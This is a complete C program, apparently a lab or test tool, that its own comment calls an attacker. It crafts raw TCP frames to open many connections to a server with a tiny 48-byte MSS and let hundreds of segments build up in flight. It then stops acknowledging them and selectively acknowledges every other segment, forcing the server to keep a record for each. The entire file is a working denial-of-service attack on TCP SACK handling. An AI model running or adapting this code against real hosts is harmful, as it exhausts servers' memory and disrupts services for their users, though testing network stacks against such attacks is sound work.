/*
 * sack_peer.c - an attacker: connections to 10.0.0.5 port 80 with an MSS of 48,
 * each grown to 700 segments in flight; then nothing is acknowledged any more,
 * but every other segment selectively (RFC 2018), so that the sender has to
 * keep a record for each.
 *
 *	sack_peer CONNECTIONS
 *
 * From 10.0.0.77 at a MAC of its own, on eth0. Says "full" when it has done so,
 * with how many connections it has and how many segments are in flight; until
 * it is ended its host says nothing more.
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum {
	MAX = 2000,
	MSS = 48,
	FLIGHT = 700 * MSS,
	PORT = 10000,
	IP = 14,
	TCP = 34,
	SYN = 2,
	RST = 4,
	ACK = 16,
	ISS = 1000,
	GROW = 1000, /* segments that are acknowledged: each lets one more go */
	AT_ONCE = 16, /* connections that grow, so that no queue overflows */
	STALL_MS = 200,
};

static const unsigned char macs[] = {
    2, 0x50, 10, 0, 0, 5, 2, 0, 0, 0, 0, 0x77, 8, 0};
static const unsigned char ends[] = {10, 0, 0, 77, 10, 0, 0, 5};

static struct conn {
	unsigned una, nxt, hole; /* of what the server sends */
	int open, done, acked;
	long at; /* when it has grown last, ms */
} conn[MAX];
static int sock, count, begun;

static unsigned
get32(const unsigned char *p)
{
	return (unsigned)p[0] << 24 | (unsigned)p[1] << 16 |
	       (unsigned)p[2] << 8 | p[3];
}

static void
put32(unsigned char *p, unsigned v)
{
	v = htonl(v);
	memcpy(p, &v, 4);
}

static void
put16(unsigned char *p, unsigned v)
{
	p[0] = (unsigned char)(v >> 8);
	p[1] = (unsigned char)v;
}

static unsigned
sum(unsigned s, const unsigned char *p, int n)
{
	for (; n > 1; p += 2, n -= 2)
		s += (unsigned)p[0] << 8 | p[1];
	s += n > 0 ? (unsigned)p[0] << 8 : 0;
	return (s & 0xffff) + (s >> 16);
}

/* say - a segment with these bytes, options and data, behind its header */
static void
say(int i, int flags, unsigned seq, const void *more, int optlen, int len)
{
	unsigned char f[128] = {0}, *tcp = f + TCP;
	int n = 20 + optlen + len;
	unsigned s;

	memcpy(f, macs, 14);
	f[IP] = 0x45;
	put16(f + IP + 2, (unsigned)(20 + n));
	f[IP + 8] = 64;
	f[IP + 9] = 6;
	memcpy(f + IP + 12, ends, 8);
	s = sum(0, f + IP, 20);
	put16(f + IP + 10,
	    ~sum(0,
		(unsigned char[]){(unsigned char)(s >> 8), (unsigned char)s},
		2) &
		0xffff);
	put16(tcp, (unsigned)(PORT + i));
	put16(tcp + 2, 80);
	put32(tcp + 4, seq);
	put32(tcp + 8, flags & ACK ? conn[i].una : 0);
	tcp[12] = (unsigned char)((20 + optlen) * 4);
	tcp[13] = (unsigned char)flags;
	put16(tcp + 14, 65535);
	memcpy(tcp + 20, more, (size_t)(optlen + len));
	s = sum((unsigned)(6 + n), ends, 8);
	s = sum(s, tcp, n);
	put16(tcp + 16, ~((s & 0xffff) + (s >> 16)) & 0xffff);
	while (send(sock, f, (size_t)(IP + 20 + n), 0) < 0)
		usleep(1000);
}

static long
clock_ms(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (long)t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

static void
begin(int i)
{
	static const unsigned char o[] = {2, 4, 0, MSS, 4, 2, 1, 1};

	conn[i].at = clock_ms();
	say(i, SYN, ISS, o, sizeof(o), 0);
}

/* sack - the next three of every other segment in flight */
static void
sack(int i)
{
	struct conn *c = &conn[i];
	unsigned char o[28] = {1, 1, 5, 26};
	int k;

	for (k = 0; k < 3; k++, c->hole += 2 * MSS) {
		put32(o + 4 + 8 * k, c->hole);
		put32(o + 8 + 8 * k, c->hole + MSS);
	}
	say(i, ACK, ISS + 5, o, sizeof(o), 0);
}

/* hold - connection i: no more is acknowledged, half of it is SACKed */
static void
hold(int i)
{
	struct conn *c = &conn[i];

	c->done = 1;
	for (c->hole = c->una + MSS; c->hole + 5 * MSS < c->nxt;)
		sack(i);
	if (begun < count)
		begin(begun++);
}

/* receive - a segment of the server, of n bytes of data */
static void
receive(int i, const unsigned char *tcp, unsigned n)
{
	struct conn *c = &conn[i];
	unsigned seq = get32(tcp + 4);

	if (tcp[13] & RST) {
		c->open = 0;
	} else if ((tcp[13] & SYN) && !c->open) {
		c->open = 1;
		c->una = c->nxt = seq + 1;
		say(i, ACK, ISS + 1, "GET\n", 0, 4);
	} else if (c->open && !c->done && seq == c->nxt) {
		c->nxt += n;
		c->at = clock_ms();
		for (; c->una != c->nxt && c->acked < GROW; c->acked++) {
			c->una += c->nxt - c->una < MSS ? c->nxt - c->una : MSS;
			say(i, ACK, ISS + 5, "", 0, 0);
		}
		if (c->nxt - c->una >= FLIGHT)
			hold(i);
	}
}

/* hear - a frame of n bytes */
static void
hear(const unsigned char *f, long n)
{
	unsigned i, len, hlen;

	if (n < TCP + 20 || memcmp(f, macs + 6, 6) != 0 || f[IP + 9] != 6)
		return;
	i = ((unsigned)f[TCP + 2] << 8 | f[TCP + 3]) - PORT;
	len = (unsigned)f[IP + 2] << 8 | f[IP + 3];
	hlen = 20 + (f[TCP + 12] >> 4) * 4u;
	if (i < (unsigned)begun && len >= hlen)
		receive((int)i, f + TCP, len - hlen);
}

/* stalled - those that have not grown for a while have what they can get */
static void
stalled(long now)
{
	int i, n = begun;

	for (i = 0; i < n; i++) {
		if (conn[i].done || now - conn[i].at < STALL_MS)
			continue;
		conn[i].at = now;
		if (conn[i].open)
			hold(i);
		else
			begin(i);
	}
}

/* tell - how it went, once */
static void
tell(void)
{
	static int told;
	int i, open = 0;
	unsigned flight = 0;

	for (i = 0; i < count; i++) {
		if (!conn[i].done)
			return;
		open += conn[i].open;
		flight += (conn[i].nxt - conn[i].una) / MSS;
	}
	if (told++ == 0)
		printf("full: %d connections, %u segments\n", open, flight);
	fflush(stdout);
}

int
main(int argc, char **argv)
{
	struct sockaddr_ll at = {.sll_family = AF_PACKET,
	    .sll_protocol = htons(ETH_P_ALL),
	    .sll_ifindex = (int)if_nametoindex("eth0")};
	static unsigned char f[65536 + 128];
	int large = 64 << 20;
	long now, before = 0;
	struct pollfd p;

	count = argc > 1 ? atoi(argv[1]) : MAX;
	sock = socket(AF_PACKET, SOCK_RAW, 0);
	setsockopt(sock, SOL_SOCKET, SO_RCVBUFFORCE, &large, sizeof(large));
	if (count > MAX || bind(sock, (struct sockaddr *)&at, sizeof(at)) != 0)
		return 1;
	while (begun < count && begun < AT_ONCE)
		begin(begun++);
	for (;;) {
		p = (struct pollfd){sock, POLLIN, 0};
		if (poll(&p, 1, STALL_MS) > 0)
			hear(f, recv(sock, f, sizeof(f), 0));
		now = clock_ms();
		if (now == before)
			continue;
		stalled(now);
		tell();
		before = now;
	}
}
